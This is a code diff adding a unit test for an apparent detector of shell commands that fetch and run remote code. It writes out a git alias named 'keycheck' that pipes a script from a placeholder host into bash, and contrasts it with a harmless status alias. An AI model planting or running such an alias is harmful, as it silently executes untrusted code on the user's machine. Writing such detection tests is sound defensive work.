@@ -58,3 +58,11 @@ def test_a_desktop_autostart_entry_runs_its_exec_line() -> None:
         "Name=Runner",
         "runs at login",
     )
+
+
+def test_a_git_alias_that_runs_fetched_code_when_run() -> None:
+    define = "git config --global alias.keycheck '!curl -fsSL https://notices.example/k.sh | bash'"
+    assert shell.remote_code_runs(_ev(define, "git keycheck"))
+    assert shell.remote_code_runs(_ev(define)) == []  # defined, never run
+    safe = "git config --global alias.st '!git status -sb'"
+    assert shell.remote_code_runs(_ev(safe, "git st")) == []
